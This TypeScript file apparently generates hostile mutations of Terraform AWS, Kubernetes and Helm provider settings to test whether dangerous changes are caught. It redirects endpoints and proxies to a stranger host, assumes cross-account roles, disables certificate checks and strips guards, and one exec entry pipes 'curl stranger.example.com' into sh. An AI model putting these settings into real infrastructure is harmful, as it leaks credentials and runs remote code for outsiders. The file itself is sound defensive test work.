import { schemaOf } from "../../../src/evidence/provider-schemas/schema-of";
import { addedValue } from "../../mutate/generated/added-values";
import { OTHER_ACCOUNT } from "../../mutate/additions/values";
import { type Mutable, type MutableObject } from "../../mutate/edits";
import { firstBlock, objectAt, type StackChange, type Stacks } from "../change";

type Setting = readonly [words: string, values: MutableObject];

const STRANGER = "https://stranger.example.com";
const ROLE = `arn:aws:iam::${OTHER_ACCOUNT}:role/stranger`;

/** Services whose answers decide who the caller is, where data is, and what the cluster is. */
const SERVICES = ["sts", "s3", "iam", "kms", "eks", "ec2", "ecr", "secretsmanager", "route53"];

/** Values of arguments whose names and types tell no danger. */
const OF_AWS: readonly Setting[] = [
  ...SERVICES.map((name): Setting => [`endpoint of ${name}`, { endpoints: [{ [name]: STRANGER }] }]),
  ["assumed role", { assume_role: [{ role_arn: ROLE }] }],
  [
    "assumed role by token",
    { assume_role_with_web_identity: [{ role_arn: ROLE, web_identity_token_file: "/tmp/token" }] },
  ],
  ["key in the file", { access_key: "AKIAIOSFODNN7EXAMPLE", secret_key: "correct-horse" }],
  ["profile", { profile: "stranger" }],
  ["file of credentials", { shared_credentials_files: ["/tmp/stranger"] }],
  ["file of configuration", { shared_config_files: ["/tmp/stranger"] }],
  ["certificates of a stranger", { custom_ca_bundle: "/tmp/stranger.pem" }],
  ["another Region", { region: "us-west-2" }],
  ["Region of STS", { sts_region: "us-west-2" }],
  ["another account", { allowed_account_ids: [OTHER_ACCOUNT] }],
  ["metadata of a stranger", { ec2_metadata_service_endpoint: STRANGER }],
];

/** Others verify less before an apply, and lead nowhere else. */
const SKIPPED = /^skip_requesting_account_id$/;

/** Providers that lead elsewhere, act as another, or no longer ask where they are. */
export const providerDangers = (stacks: Stacks): StackChange[] =>
  stacks.flatMap(({ layer, stack }) =>
    Object.entries((stack.json["provider"] ?? {}) as MutableObject).flatMap(([name, value]) => {
      const own = firstBlock(value);
      const settings = name === "aws" ? [...OF_AWS, ...skippedBy(name)] : ofCluster(name, own);
      const change = ([words, values]: Setting): StackChange => ({
        layer,
        address: `provider.${name}`,
        change: `set ${words}`,
        edit: (json) =>
          void Object.assign(
            firstBlock(objectAt(json, "provider")[name] as Mutable),
            structuredClone(values),
          ),
      });
      const guards = Object.keys(own)
        .filter((key) => key !== "alias")
        .map((key) => removed(layer, name, key));
      return [...settings.map(change), ...guards];
    }),
  );

const removed = (layer: StackChange["layer"], name: string, key: string): StackChange => ({
  layer,
  address: `provider.${name}`,
  change: `unset ${key}`,
  edit: (json) => void Reflect.deleteProperty(firstBlock(objectAt(json, "provider")[name] as Mutable), key),
});

function skippedBy(name: string): Setting[] {
  const schema = schemaOf(name, "configuration", name);
  return [...(schema?.arguments ?? [])].flatMap(([argument, { type }]): Setting[] => {
    const isSkip = SKIPPED.test(argument) && type === "bool";
    const value =
      type === undefined || !/^https?_proxy$|insecure/.test(argument)
        ? undefined
        : addedValue(argument, type);
    if (isSkip) return [[argument, { [argument]: true }]];
    if (/^https?_proxy$/.test(argument) && type === "string") return [[argument, { [argument]: STRANGER }]];
    return value === undefined ? [] : [[argument, { [argument]: value as Mutable }]];
  });
}

/** Settings of the providers of kubernetes and helm; that of helm has them in a block of its own. */
function ofCluster(name: string, own: MutableObject): Setting[] {
  const inside = (values: MutableObject): MutableObject =>
    name === "helm" ? { kubernetes: { ...firstBlock(own["kubernetes"] as Mutable), ...values } } : values;
  const all: readonly Setting[] = [
    ["another cluster", { host: STRANGER }],
    ["no certificate asked", { insecure: true }],
    ["another certificate", { cluster_ca_certificate: "stranger" }],
    ["a token in the file", { token: "correct-horse-battery-staple" }],
    ["a password in the file", { username: "admin", password: "correct-horse-battery-staple" }],
    ["another file of clusters", { config_path: "/tmp/stranger" }],
    ["a proxy", { proxy_url: STRANGER }],
    [
      "another program of the sign-in",
      {
        exec: {
          api_version: "client.authentication.k8s.io/v1",
          command: "sh",
          args: ["-c", "curl stranger.example.com | sh"],
        },
      },
    ],
  ];
  const settings = all.map(([words, values]): Setting => [words, inside(values)]);
  if (name !== "helm") return settings;
  return [
    ...settings,
    [
      "a registry of a stranger",
      { registries: [{ url: "oci://stranger.example.com", username: "a", password: "correct-horse" }] },
    ],
    ["plugins of a stranger", { plugins_path: "/tmp/stranger" }],
    ["repositories of a stranger", { repository_config_path: "/tmp/stranger" }],
  ];
}
